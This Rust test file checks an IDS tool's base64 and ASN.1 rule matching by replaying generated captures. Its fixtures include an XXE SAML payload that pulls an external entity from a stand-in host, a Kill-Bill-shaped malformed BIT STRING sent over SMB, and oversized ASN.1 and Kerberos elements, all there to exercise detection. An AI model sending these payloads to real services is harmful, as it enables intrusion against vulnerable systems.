//! `base64_decode`/`base64_data` and `asn1` through `verdict replay` on generated captures:
//! each rule form fires on the traffic it describes and stays quiet on a near miss (other
//! decoded bytes, data past the decode bound, a well-formed BER element).

use base64::Engine as _;

#[path = "common/capture.rs"]
mod capture;
use capture::{conversation, dgram, replay_alerts, write_pcap, Dir};

fn b64(s: &[u8]) -> String {
    base64::engine::general_purpose::STANDARD.encode(s)
}

/// Alerts of `rules` over one client-to-server exchange on `port`, inline and as an IDS
/// (both must agree).
fn fired(tag: &str, rules: &str, port: u16, request: &[u8], response: &[u8]) -> Vec<u64> {
    let mut turns: Vec<(bool, &[u8])> = vec![(true, request)];
    if !response.is_empty() {
        turns.push((false, response));
    }
    let frames = conversation(40100, port, &turns);
    let ips = replay_alerts(&format!("b64-{tag}"), rules, &frames, true);
    let ids = replay_alerts(&format!("b64-{tag}-ids"), rules, &frames, false);
    assert_eq!(ips, ids, "{tag}: inline and IDS differ");
    ips
}

fn post(body: &[u8]) -> Vec<u8> {
    let mut r = format!(
        "POST /dana-na/auth/saml-sso.cgi HTTP/1.1\r\nHost: vpn.example\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n",
        body.len()
    )
    .into_bytes();
    r.extend_from_slice(body);
    r
}

const OK: &[u8] = b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok";

/// ET Open's CVE-2024-22024 rule form: a sticky body, a `startswith` anchor and a bounded
/// relative decode.
#[test]
fn http_body_decoded_after_an_anchor() {
    let rules = r#"alert http any any -> any any (msg:"saml xxe"; flow:established,to_server; http.method; content:"POST"; http.uri; content:"/dana-na/auth/saml-sso.cgi"; fast_pattern; http.request_body; content:"SAMLRequest="; startswith; base64_decode:bytes 64, offset 0, relative; base64_data; content:"<?xml version=|22|1.0|22| ?><!DOCTYPE root [<!ENTITY"; sid:1;)
"#;
    let xxe = b"<?xml version=\"1.0\" ?><!DOCTYPE root [<!ENTITY % xxe SYSTEM \"http://198.51.100.9/x\"> %xxe;]><r/>";
    let hit = post(format!("SAMLRequest={}", b64(xxe)).as_bytes());
    assert_eq!(fired("saml", rules, 80, &hit, OK), vec![1]);
    // The same request with a harmless document: decoded, but not the pattern.
    let benign = post(
        format!(
            "SAMLRequest={}",
            b64(b"<samlp:AuthnRequest ID=\"a1\" Version=\"2.0\"/>")
        )
        .as_bytes(),
    );
    assert_eq!(
        fired("saml-benign", rules, 80, &benign, OK),
        Vec::<u64>::new()
    );
    // The pattern lies past the 64 encoded bytes the rule decodes.
    let mut late = b"<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\" ?>  ".to_vec();
    late.extend_from_slice(xxe);
    let far = post(format!("SAMLRequest={}", b64(&late)).as_bytes());
    assert_eq!(fired("saml-far", rules, 80, &far, OK), Vec::<u64>::new());
    // Not at the body's start: the anchor fails.
    let moved = post(format!("x=1&SAMLRequest={}", b64(xxe)).as_bytes());
    assert_eq!(
        fired("saml-moved", rules, 80, &moved, OK),
        Vec::<u64>::new()
    );
}

/// The packet payload, relative to a content, and the decoder's stop at the first byte
/// outside the alphabet (RFC 4648, as Suricata).
#[test]
fn payload_decode_stops_at_the_first_non_alphabet_byte() {
    let rules = r#"alert tcp any any -> any 7000 (msg:"admin token"; flow:established,to_server; content:"auth="; base64_decode:relative; base64_data; content:"role=admin"; sid:2;)
alert tcp any any -> any 7000 (msg:"offset"; flow:established,to_server; content:"auth="; base64_decode:offset 2, relative; base64_data; content:"role=admin"; sid:3;)
"#;
    let token = b64(b"user=alice;role=admin");
    let hit = format!("LOGIN auth={token}\r\n");
    assert_eq!(fired("tok", rules, 7000, hit.as_bytes(), b""), vec![2]);
    // Two bytes before the token: sid 2's groups no longer line up (other bytes), sid 3
    // skips them.
    let shifted = format!("LOGIN auth=xy{token}\r\n");
    assert_eq!(
        fired("tok-shift", rules, 7000, shifted.as_bytes(), b""),
        vec![3]
    );
    // A line break inside the token ends the decode before "role=admin".
    let (a, b) = token.split_at(8);
    let broken = format!("LOGIN auth={a}\r\n{b}\r\n");
    assert_eq!(
        fired("tok-break", rules, 7000, broken.as_bytes(), b""),
        Vec::<u64>::new()
    );
    let user = format!("LOGIN auth={}\r\n", b64(b"user=alice;role=guest"));
    assert_eq!(
        fired("tok-user", rules, 7000, user.as_bytes(), b""),
        Vec::<u64>::new()
    );
}

/// Snort 2's modifier form: base64_decode reads the http_header buffer of the content
/// before it (as Suricata appends it to that content's list).
#[test]
fn snort2_modifier_form_decodes_the_header() {
    let rules = r#"alert tcp any any -> any 80 (msg:"basic admin"; flow:to_server,established; content:"Authorization|3A| Basic "; http_header; base64_decode:relative; base64_data; content:"admin|3A|"; sid:4;)
"#;
    let req = format!(
        "GET / HTTP/1.1\r\nHost: a.example\r\nAuthorization: Basic {}\r\n\r\n",
        b64(b"admin:hunter2")
    );
    assert_eq!(fired("basic", rules, 80, req.as_bytes(), OK), vec![4]);
    let other = format!(
        "GET / HTTP/1.1\r\nHost: a.example\r\nAuthorization: Basic {}\r\n\r\n",
        b64(b"alice:hunter2")
    );
    assert_eq!(
        fired("basic-other", rules, 80, other.as_bytes(), OK),
        Vec::<u64>::new()
    );
}

/// An SMB session setup shaped as the ET Open / community MS04-007 rules expect, with the
/// BER element at `relative_offset 54` from the end of "\xFFSMBs".
fn smb_setup(ber: &[u8]) -> Vec<u8> {
    let mut p = vec![0u8; 63];
    p[4..9].copy_from_slice(b"\xFFSMBs");
    // byte_test:4,&,2147483648,48,relative,little: bytes 57..61 with the top bit set.
    p[60] = 0x80;
    p.extend_from_slice(ber);
    let nb_len = (p.len() - 4) as u32;
    p[1..4].copy_from_slice(&nb_len.to_be_bytes()[1..]);
    p
}

const SMB_RULE: &str = r#"alert tcp any any -> any 445 (msg:"GPL NETBIOS SMB-DS Session Setup NTMLSSP asn1 overflow attempt"; flow:established,to_server; content:"|00|"; depth:1; content:"|FF|SMBs"; within:5; distance:3; byte_test:1,!&,128,6,relative; byte_test:4,&,2147483648,48,relative,little; content:!"NTLMSSP"; within:7; distance:54; asn1:double_overflow, bitstring_overflow, relative_offset 54, oversize_length 2048; sid:5;)
"#;

#[test]
fn asn1_bitstring_and_double_overflow_in_smb() {
    // A BIT STRING of one byte claiming 255 unused bits (the Kill-Bill exploit's shape).
    let kill_bill = smb_setup(b"\x03\x01\xFF");
    assert_eq!(fired("smb-bits", SMB_RULE, 445, &kill_bill, b""), vec![5]);
    // The same element with 7 unused bits is well formed.
    let fine = smb_setup(b"\x03\x02\x07\x80");
    assert_eq!(
        fired("smb-bits-ok", SMB_RULE, 445, &fine, b""),
        Vec::<u64>::new()
    );
    // An ASCII REAL of 257 bytes overflows MSASN1; 256 does not.
    let real = |n: u16| {
        let mut b = vec![0x09, 0x82];
        b.extend_from_slice(&n.to_be_bytes());
        b.extend(std::iter::repeat_n(b'1', usize::from(n)));
        b
    };
    assert_eq!(
        fired("smb-real", SMB_RULE, 445, &smb_setup(&real(257)), b""),
        vec![5]
    );
    assert_eq!(
        fired("smb-real-ok", SMB_RULE, 445, &smb_setup(&real(256)), b""),
        Vec::<u64>::new()
    );
    // The NTLMSSP guard: the same bad element right after the signature is not this rule's.
    let mut ntlm = b"NTLMSSP".to_vec();
    ntlm.extend_from_slice(b"\x03\x01\xFF");
    assert_eq!(
        fired("smb-ntlm", SMB_RULE, 445, &smb_setup(&ntlm), b""),
        Vec::<u64>::new()
    );
}

/// The community Kerberos rule: a negative relative offset back onto the `|A1|` it found,
/// and an element longer than `oversize_length`.
#[test]
fn asn1_oversize_length_at_a_negative_relative_offset() {
    let rules = r#"alert udp any any -> any 88 (msg:"SERVER-OTHER kerberos principal name overflow UDP"; flow:to_server; content:"j"; depth:1; content:"|01 A1|"; asn1:oversize_length 1024,relative_offset -1; sid:6;)
"#;
    let as_req = |n: u16| {
        let mut p = b"j\x82\x04\x00\x30\x82\x03\xfc\xa1\x03\x02\x01".to_vec();
        p.extend_from_slice(b"\x05\x01");
        p.push(0xA1);
        p.push(0x82);
        p.extend_from_slice(&n.to_be_bytes());
        p.extend(std::iter::repeat_n(b'A', usize::from(n)));
        p
    };
    let d = Dir::new("b64-krb");
    let replay = |name: &str, data: &[u8]| {
        let pcap = d.0.join(format!("{name}.pcap"));
        write_pcap(&pcap, &[dgram(true, 40200, 88, data)]);
        let r = d.file("k.rules", rules);
        let out = d.0.join(format!("out-{name}"));
        let o = std::process::Command::new(env!("CARGO_BIN_EXE_verdict"))
            .args(["replay", "-r"])
            .arg(&r)
            .arg("-o")
            .arg(&out)
            .arg(&pcap)
            .output()
            .unwrap();
        assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
        std::fs::read_to_string(out.join("eve.json"))
            .unwrap_or_default()
            .lines()
            .filter(|l| l.contains("\"event_type\":\"alert\""))
            .count()
    };
    assert_eq!(replay("big", &as_req(1025)), 1);
    assert_eq!(replay("small", &as_req(1000)), 0);
}
